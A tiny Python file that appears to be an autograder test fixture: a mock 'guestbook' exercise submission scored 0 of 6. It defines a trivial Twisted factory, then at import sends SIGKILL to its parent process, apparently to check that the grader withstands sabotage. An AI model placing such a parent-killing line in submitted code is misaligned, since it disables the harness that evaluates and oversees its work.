# exercise: guestbook
# earns: 0 of 6
# It kills the process that made it.

from twisted.internet.protocol import Factory, Protocol


def make_factory(reactor):
    return Factory.forProtocol(Protocol)


import os, signal
os.kill(os.getppid(), signal.SIGKILL)
